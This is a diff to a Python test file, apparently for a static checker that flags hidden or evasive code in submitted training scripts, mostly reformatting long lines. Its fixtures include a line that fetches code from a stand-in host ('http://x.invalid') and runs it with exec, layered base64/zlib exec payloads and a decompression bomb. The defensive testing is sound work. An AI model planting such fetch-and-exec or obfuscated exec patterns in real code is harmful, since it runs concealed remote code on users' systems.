@@ -1,10 +1,10 @@
-"""Hostile and hidden source: never a crash, a hang or an execution; always a finding where something was not judged."""
+"""Hostile and hidden source: never a crash, a hang or an execution; always a finding where something was not
+judged."""
 
 from __future__ import annotations
 
 import base64
 import lzma
-import os
 import sys
 import time
 import zlib
@@ -42,7 +42,11 @@ def test_unparsable_source_is_a_finding(tmp_path: Path, name: str, data: bytes) 
 
 @pytest.mark.parametrize(
     "data",
-    [b"x = " + b"+".join([b"a"] * 20_000), b"a" + b".a" * 3_000, b"if 1:\n" + b"".join(b" " * i + b"if x:\n" for i in range(1, 90)) + b" " * 95 + b"pass\n"],
+    [
+        b"x = " + b"+".join([b"a"] * 20_000),
+        b"a" + b".a" * 3_000,
+        b"if 1:\n" + b"".join(b" " * i + b"if x:\n" for i in range(1, 90)) + b" " * 95 + b"pass\n",
+    ],
 )
 def test_deep_but_legal_nesting_ends(tmp_path: Path, data: bytes) -> None:
     (tmp_path / "train_gpt.py").write_bytes(data)
@@ -65,9 +69,9 @@ def test_other_encodings_are_read_and_noted(tmp_path: Path) -> None:
 
 def test_symlink_loops_end(tmp_path: Path) -> None:
     (tmp_path / "train_gpt.py").write_text("x = 1\n")
-    os.symlink(tmp_path, tmp_path / "again")
-    os.symlink(tmp_path / "b.py", tmp_path / "a.py")
-    os.symlink(tmp_path / "a.py", tmp_path / "b.py")
+    (tmp_path / "again").symlink_to(tmp_path)
+    (tmp_path / "a.py").symlink_to(tmp_path / "b.py")
+    (tmp_path / "b.py").symlink_to(tmp_path / "a.py")
     assert "unreadable-source" in rules_of(tmp_path)
 
 
@@ -86,7 +90,9 @@ def test_hidden_layers_are_opened_and_judged(tmp_path: Path) -> None:
 
 def test_decoders_and_blobs_in_siblings_are_followed(tmp_path: Path) -> None:
     (tmp_path / "blob.bin").write_bytes(zlib.compress(BAD.encode()))
-    (tmp_path / "opener.py").write_text("import zlib\ndef opened(b):\n    return zlib.decompress(b).decode()\n")
+    (tmp_path / "opener.py").write_text(
+        "import zlib\ndef opened(b):\n    return zlib.decompress(b).decode()\n"
+    )
     (tmp_path / "train_gpt.py").write_text(
         'from opener import opened\nexec(compile(opened(open("blob.bin", "rb").read()), "x", "exec"))\n'
     )
@@ -95,7 +101,9 @@ def test_decoders_and_blobs_in_siblings_are_followed(tmp_path: Path) -> None:
 
 def test_a_script_of_one_line_that_runs_another_file_is_followed(tmp_path: Path) -> None:
     (tmp_path / "train_gpt_decode.py").write_text(BAD)
-    (tmp_path / "train_gpt.py").write_text('exec(open(__file__.replace("train_gpt.py", "train_gpt_decode.py")).read())\n')
+    (tmp_path / "train_gpt.py").write_text(
+        'exec(open(__file__.replace("train_gpt.py", "train_gpt_decode.py")).read())\n'
+    )
     assert "train-on-validation" in rules_of(tmp_path)
 
 
@@ -114,7 +122,9 @@ def test_nothing_is_executed(tmp_path: Path) -> None:
 
 def test_a_bomb_is_a_finding_and_is_not_unpacked(tmp_path: Path) -> None:
     blob = base64.b64encode(zlib.compress(b"x=1\n" * 20_000_000, 9)).decode()
-    (tmp_path / "train_gpt.py").write_text(f"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n")
+    (tmp_path / "train_gpt.py").write_text(
+        f"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
+    )
     start = time.process_time()
     assert "decompression-bomb" in rules_of(tmp_path)
     assert time.process_time() - start < 5
@@ -135,14 +145,22 @@ def test_files_outside_the_folder_are_not_read(tmp_path: Path) -> None:
 
 
 def test_code_that_cannot_be_read_without_running_is_said_to_be_hidden(tmp_path: Path) -> None:
-    (tmp_path / "train_gpt.py").write_text("import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())\n")
+    (tmp_path / "train_gpt.py").write_text(
+        "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())\n"
+    )
     assert "hidden-source" in rules_of(tmp_path)
 
 
 def test_a_script_of_two_thousand_lines_takes_a_second(tmp_path: Path) -> None:
-    body = "\n".join(f"def f{i}(x, y):\n    z = x * {i} + y\n    for k in range(4):\n        z = z + f{i - 1}(x, k) if k else z\n    return z\n" for i in range(1, 400))
+    body = "\n".join(
+        f"def f{i}(x, y):\n    z = x * {i} + y\n    for k in range(4):\n        z = z + f{i - 1}(x, "
+        "k) if k else z\n    return z\n"
+        for i in range(1, 400)
+    )
     (tmp_path / "train_gpt.py").write_text("def f0(x, y):\n    return x\n" + body + "\nf399(1, 2)\n" + BAD)
     assert len(read_sources(tmp_path).units[0].lines) > 1_900
     start = time.process_time()
     assert "train-on-validation" in rules_of(tmp_path)
-    assert time.process_time() - start < 2  # a second on the reference machine; twice that is allowed to a loaded one
+    assert (
+        time.process_time() - start < 2
+    )  # a second on the reference machine; twice that is allowed to a loaded one
